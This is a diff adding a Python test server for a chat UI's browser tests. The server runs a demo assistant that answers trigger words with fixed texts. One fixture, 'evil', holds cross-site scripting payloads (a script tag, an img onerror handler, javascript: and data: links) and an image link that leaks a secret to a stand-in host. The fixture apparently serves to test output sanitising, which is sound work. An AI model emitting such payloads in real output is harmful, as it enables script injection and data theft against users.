@@ -1,0 +1,77 @@
+"""The real server for the browser tests: the demo assistant on memory, and what it does not show.
+
+Prints its address. `--word-seconds` is how fast it talks.
+"""
+
+import argparse
+import asyncio
+import socket
+import tempfile
+from collections.abc import AsyncIterator
+from typing import Any
+
+import uvicorn
+
+from chatkit.attachments import LocalAttachmentStore
+from chatkit.cli.demo.assistant import DemoAssistant
+from chatkit.cli.demo.pace import Pace
+from chatkit.cli.demo.talk import text_of
+from chatkit.cli.demo.welcome import PAGE
+from chatkit.http import create_app
+from chatkit.store import MemoryStore
+from chatkit.types import ClosedStatus, ThreadMetadata, ThreadStreamEvent, UserMessageItem
+
+TEXTS = {
+    "story": " ".join(f"word{number}" for number in range(300)) + " The end.",
+    "deeplink": "Go to [room 7](chatkit-link://room?number=7&floor=2).",
+    "evil": (
+        "<script>window.top.hacked = 1</script> <img src=x onerror='window.top.hacked=1'>\n\n"
+        "[a](javascript:window.top.hacked=1) ![i](https://evil.example/leak.png?secret=1)\n\n"
+        "[b](data:text/html,x) [good](https://good.example/)"
+    ),
+}
+
+
+class Assistant(DemoAssistant):
+    """Knows a few more words than the demo does."""
+
+    async def respond(
+        self, thread: ThreadMetadata, input_user_message: UserMessageItem | None, context: Any
+    ) -> AsyncIterator[ThreadStreamEvent]:
+        word = text_of(input_user_message) if input_user_message else ""
+        if word == "close":
+            thread.status = ClosedStatus(reason="This matter is settled")
+        if word in TEXTS:
+            stage = self._stage(thread, context, input_user_message)
+            async for event in stage.say(TEXTS[word]):
+                yield event
+            return
+        async for event in super().respond(thread, input_user_message, context):
+            yield event
+
+
+def main() -> None:
+    """Serves until it is killed."""
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--word-seconds", type=float, default=0.002)
+    parser.add_argument("--folder", default=None)
+    arguments = parser.parse_args()
+
+    async def pause(seconds: float) -> None:
+        # Work is shortened; words keep their pace.
+        await asyncio.sleep(min(seconds, max(arguments.word_seconds, 0.05)))
+
+    server = Assistant(
+        MemoryStore(),
+        LocalAttachmentStore(arguments.folder or tempfile.mkdtemp()),
+        pace=Pace(word_seconds=arguments.word_seconds, sleep=pause),
+    )
+    app = create_app(server, page=PAGE, allowed_origins=["*"])
+    listener = socket.create_server(("127.0.0.1", 0))
+    print(f"http://127.0.0.1:{listener.getsockname()[1]}", flush=True)
+    config = uvicorn.Config(app, log_config=None, access_log=False)
+    uvicorn.Server(config).run(sockets=[listener])
+
+
+if __name__ == "__main__":
+    main()
